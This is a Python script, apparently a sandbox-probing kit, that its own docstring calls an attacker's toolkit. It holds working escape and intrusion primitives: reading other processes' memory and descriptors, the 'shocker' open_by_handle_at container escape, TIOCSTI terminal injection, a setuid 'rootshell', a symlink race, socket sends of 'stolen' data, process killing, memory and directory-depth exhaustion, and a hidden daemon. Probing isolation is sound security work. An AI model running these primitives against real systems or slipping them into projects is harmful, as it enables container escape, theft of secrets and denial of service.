"""What an attacker brings along: raw system calls and tricks that no program on the machine offers.

    python3 kit.py NAME ARGUMENTS

Copied into the attacked project. A door that should be shut and was not is told by printing `OPEN`.
"""

import ctypes
import fcntl
import mmap
import os
import socket
import struct
import sys
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
X86 = os.uname().machine == "x86_64"
NUMBERS = {  # x86-64, the others
    **{"ptrace": (101, 117), "process_vm_readv": (310, 270), "keyctl": (250, 219), "bpf": (321, 280)},
    **{"add_key": (248, 217), "perf_event_open": (298, 241), "userfaultfd": (323, 282), "mount": (165, 40)},
    **{"umount2": (166, 39), "unshare": (272, 97), "setns": (308, 268), "clone": (56, 220)},
    **{"clone3": (435, 435), "io_uring_setup": (425, 425), "open_by_handle_at": (304, 265)},
    **{"fsopen": (430, 430), "open_tree": (428, 428), "pidfd_open": (434, 434), "pidfd_getfd": (438, 438)},
    **{"fchmodat2": (452, 452), "setxattrat": (463, 463), "file_setattr": (469, 469), "openat2": (437, 437)},
    **{"fanotify_init": (300, 262), "syslog": (103, 116), "kcmp": (312, 272), "chroot": (161, 51)},
    **{"pivot_root": (155, 41), "personality": (135, 92), "init_module": (175, 105), "reboot": (169, 142)},
    **{"shmget": (29, 194), "shmat": (30, 196), "prlimit64": (302, 261), "process_madvise": (440, 440)},
    **{"pidfd_send_signal": (424, 424), "rt_sigqueueinfo": (129, 138), "acct": (163, 89), "kill": (62, 129)},
    **{"name_to_handle_at": (303, 264), "settimeofday": (164, 170), "sethostname": (170, 161)},
    **{"kexec_load": (246, 104), "quotactl": (179, 60), "swapon": (167, 224), "clock_settime": (227, 112)},
    **{"mount_setattr": (442, 442), "move_mount": (429, 429), "listmount": (458, 458)},
}


def call(name, *args):
    wide = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    result = libc.syscall(ctypes.c_long(NUMBERS[name][0 if X86 else 1]), *wide)
    return result if result >= 0 else -ctypes.get_errno()


def door(name, *args):
    """The kernel's word for it: OPEN when the call succeeds, or fails only for its arguments."""
    given = [
        int(a, 0) if a.lstrip("-").replace("x", "").isalnum() and a[:1].isdigit() else a.encode()
        for a in args
    ]
    result = call(name, *given)
    print(name, result, "OPEN" if result >= 0 else "shut")


def family(number, kind="1", protocol="0"):
    try:
        socket.socket(int(number), int(kind), int(protocol)).close()
        print("OPEN")
    except OSError as error:
        print("shut", error)


def families(*numbers):
    for number in numbers:
        for kind in (1, 2, 3, 5):
            family(number, kind)


def send(kind, address, port="0"):
    text = b"stolen"
    if kind in ("tcp", "udp", "tcp6", "udp6", "mptcp"):
        af = socket.AF_INET6 if kind.endswith("6") else socket.AF_INET
        protocol = 262 if kind == "mptcp" else 0
        with socket.socket(af, socket.SOCK_DGRAM if "udp" in kind else socket.SOCK_STREAM, protocol) as s:
            s.settimeout(2)
            s.connect((address, int(port)))
            s.send(text)
    elif kind == "abstract":
        with socket.socket(socket.AF_UNIX) as s:
            s.connect("\0" + address)
            s.send(text)
    elif kind in ("stream", "dgram"):
        with socket.socket(
            socket.AF_UNIX, socket.SOCK_STREAM if kind == "stream" else socket.SOCK_DGRAM
        ) as s:
            s.connect(address)
            s.send(text)
    elif kind == "pair":  # one of a pair of datagram sockets may be addressed elsewhere
        one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        one.sendto(text, address if address[0] == "/" else "\0" + address)
    elif kind == "fastopen":
        with socket.socket() as s:
            s.sendto(text, 0x20000000, (address, int(port)))
    elif kind == "fd":  # a path longer than its limit is reached through a descriptor
        folder = os.open(os.path.dirname(address), os.O_PATH)
        with socket.socket(socket.AF_UNIX) as s:
            s.connect(f"/proc/self/fd/{folder}/{os.path.basename(address)}")
            s.send(text)


def fchmod(path):
    os.fchmod(os.open(path, os.O_RDONLY), 0o777)


def futime(path):
    os.utime(os.open(path, os.O_RDONLY), (1, 1))


def fxattr(path):
    os.setxattr(os.open(path, os.O_RDONLY), "user.evil", b"1")


def flags(path):
    handle = os.open(path, os.O_RDONLY)
    held = array = bytearray(8)
    fcntl.ioctl(handle, 0x80086601, held)
    array[0] ^= 0x40  # no dump
    fcntl.ioctl(handle, 0x40086602, bytes(array))


def fchown(path):
    os.fchown(os.open(path, os.O_RDONLY), 12345, 12345)


def reopen(path):
    handle = os.open(path, os.O_PATH)
    with open(f"/proc/self/fd/{handle}", "w") as file:
        file.write("evil")


def beside(folder):
    """Write by a descriptor of the folder, by O_TMPFILE and a link, and by rename."""
    at = os.open(folder, os.O_RDONLY)
    for attempt in (
        lambda: os.open("evil1", os.O_WRONLY | os.O_CREAT, dir_fd=at),
        lambda: os.link(f"/proc/self/fd/{os.open(folder, os.O_TMPFILE | os.O_WRONLY)}", f"{folder}/evil2"),
        lambda: os.mkdir("evil3", dir_fd=at),
        lambda: os.symlink("x", "evil4", dir_fd=at),
        lambda: os.rename("plain.txt", "evil5", src_dir_fd=at, dst_dir_fd=at),
        lambda: os.mknod("evil6", 0o600, dir_fd=at),
        lambda: os.truncate(f"{folder}/plain.txt", 0),
        lambda: os.unlink("plain.txt", dir_fd=at),
    ):
        try:
            attempt()
        except OSError as error:
            print(error)


def race(folder, name, seconds="0.3"):
    """Swap a folder for a link to the outside while writing through it."""
    base = os.environ.get("TMPDIR", "/tmp") if not os.access(".", os.W_OK) else "."
    a, b = f"{base}/swap", f"{base}/other"
    os.makedirs(a, exist_ok=True)
    os.path.lexists(b) or os.symlink(folder, b)
    end = time.monotonic() + float(seconds)

    def swap():
        while time.monotonic() < end:
            call_rename(a, b)

    thread = threading.Thread(target=swap)
    thread.start()
    while time.monotonic() < end:
        try:
            with open(f"{a}/{name}", "w") as file:
                file.write("evil")
        except OSError:
            pass
    thread.join()


def call_rename(a, b):
    libc.renameat2(-100, a.encode(), -100, b.encode(), 2)


def memory(pid):
    """What another process has in its memory."""
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            if "heap" in line or "stack" in line:
                start, end = (int(x, 16) for x in line.split()[0].split("-"))
                mem.seek(start)
                sys.stdout.buffer.write(mem.read(end - start))


def vm_read(pid, address="0"):
    buffer = ctypes.create_string_buffer(4096)

    class Vector(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))

    local, remote = Vector(ctypes.addressof(buffer), 4096), Vector(int(address, 0), 4096)
    got = call("process_vm_readv", int(pid), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    print(got, buffer.raw if got > 0 else "")


def trace(pid):
    got = libc.ptrace(16, int(pid), None, None)
    print("OPEN" if got == 0 else "shut")


def steal(pid):
    """Take a descriptor out of another process."""
    handle = call("pidfd_open", int(pid), 0)
    for number in range(3, 12):
        got = call("pidfd_getfd", handle, number, 0)
        if got >= 0:
            print(os.pread(got, 100, 0))


def keys():
    """What lies in the keyrings that were handed down."""
    for ring in (-3, -4, -5):
        serial = call("keyctl", 10, ring, b"user", b"orch-canary", 0)  # search
        if serial > 0:
            buffer = ctypes.create_string_buffer(200)
            call("keyctl", 11, serial, buffer, 200)
            print(buffer.value)


def segment(key):
    """A System V shared memory segment of another program."""
    number = call("shmget", int(key), 0, 0)
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(number, None, 0o10000)
    if address not in (None, ctypes.c_void_p(-1).value):
        print(ctypes.string_at(address, 100))


def handle(path, hidden):
    """Open a hidden file by its number (the way out of containers called shocker)."""

    class Handle(ctypes.Structure):
        _fields_ = (("size", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128))

    found, mount = Handle(size=128), ctypes.c_int()
    libc.name_to_handle_at(-100, path.encode(), ctypes.byref(found), ctypes.byref(mount), 0)
    if found.size in (0, 128):
        found.size, found.type = 8, 1
    try:
        number = os.stat(hidden).st_ino
    except OSError:
        number = 2
    struct.pack_into("=I", found.data, 0, number & 0xFFFFFFFF)
    place = os.open(path, os.O_RDONLY)
    got = libc.open_by_handle_at(place, ctypes.byref(found), os.O_RDONLY)
    if got >= 0:
        print(os.read(got, 200))


def terminal():
    """Type into the terminal that we were started from."""
    for source in (0, 1, 2, "/dev/tty", "/dev/console", "/dev/pts/0"):
        try:
            number = source if isinstance(source, int) else os.open(source, os.O_RDWR)
            fcntl.ioctl(number, 0x5412, b"\n")
            print("OPEN")
        except OSError as error:
            print("shut", error)


def steal_terminal():
    """Open a pseudo-terminal, make it ours, and type into it."""
    try:
        _, slave = os.openpty()
    except OSError as error:
        print("shut", error)
        return
    if os.fork() == 0:
        os.setsid()
        try:
            fcntl.ioctl(slave, 0x540E, 0)
            fcntl.ioctl(slave, 0x5412, b"\n")
            print("OPEN")
        except OSError as error:
            print("shut", error)
        os._exit(0)
    os.wait()


def user_namespace(flag="0x10000000"):
    got = call("unshare", int(flag, 0))
    print("OPEN" if got == 0 else "shut", got)


def namespaces():
    for flag in (0x20000, 0x2000000, 0x4000000, 0x8000000, 0x20000000, 0x40000000, 0x80):
        user_namespace(hex(flag))
        if flag > 0xFF:
            clone_namespace(hex(flag))


def clone_namespace(flag="0x10000000"):
    got = call("clone", int(flag, 0) | 17, 0, 0, 0, 0)
    if got == 0:
        os._exit(0)
    print("OPEN" if got > 0 else "shut", got)


def setuid_file(how):
    """Leave a program of root's behind for everybody."""
    target = os.path.join(
        os.environ.get("TMPDIR", "/tmp") if not os.access(".", os.W_OK) else ".", "rootshell"
    )
    try:
        if how == "create":
            os.umask(0)
            os.open(target, os.O_CREAT | os.O_WRONLY, 0o6755)
        elif how == "mknod":
            os.umask(0)
            os.mknod(target, 0o104755)
        else:
            open(target, "w").close()
            {"chmod": os.chmod, "fchmod": lambda p, m: os.fchmod(os.open(p, 0), m)}[how](target, 0o4755)
    except OSError as error:
        print(error)
    if os.path.exists(target) and os.stat(target).st_mode & 0o6000:
        print("OPEN")


def old_calls():
    """The 32-bit system calls of a 64-bit processor, by their own interrupt: getpid (20) shows the door."""
    if not X86:
        return
    code = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(code)
    got = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    print("OPEN" if got > 0 else "shut", got)


def x32():
    if X86:
        got = libc.syscall(ctypes.c_long(0x40000000 | 39))
        print("OPEN" if got > 0 else "shut", got)


def limits(pid):
    """Take another process's limits away."""
    new = struct.pack("QQ", 16, 16)
    print(call("prlimit64", int(pid), 7, ctypes.c_char_p(new), None))


def signals(pid):
    call("kill", int(pid), 9)
    call("rt_sigqueueinfo", int(pid), 9, ctypes.create_string_buffer(128))
    call("pidfd_send_signal", call("pidfd_open", int(pid), 0), 9, None, 0)


def owner(pid):
    """Have the kernel send the signal: a descriptor's owner gets SIGIO, or whichever is asked for."""
    one, other = os.pipe()
    fcntl.fcntl(one, 10, 9)  # F_SETSIG
    fcntl.fcntl(one, 8, int(pid))
    fcntl.fcntl(one, fcntl.F_SETFL, fcntl.fcntl(one, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(other, b"x")
    time.sleep(0.05)


def memory_hog():
    for _ in range(8):
        if os.fork() == 0:
            break
    held = []
    while True:
        held.append(bytearray(64 << 20))
        for at in range(0, 64 << 20, 4096):
            held[-1][at] = 1


def deep():
    """Folders in folders, deeper than a path can name and than a program may call itself."""
    base = os.environ.get("TMPDIR", "/tmp")
    os.chdir(base)
    for _ in range(1500):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)


def daemon(target):
    """Leave everything behind that could find us, then write."""
    if os.fork():
        os._exit(0)
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in range(3):
        os.close(number)
    os.environ.clear()
    os.execve(
        sys.executable, [sys.executable, "-c", f"import time; time.sleep(900); open({target!r}, 'w')"], {}
    )


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
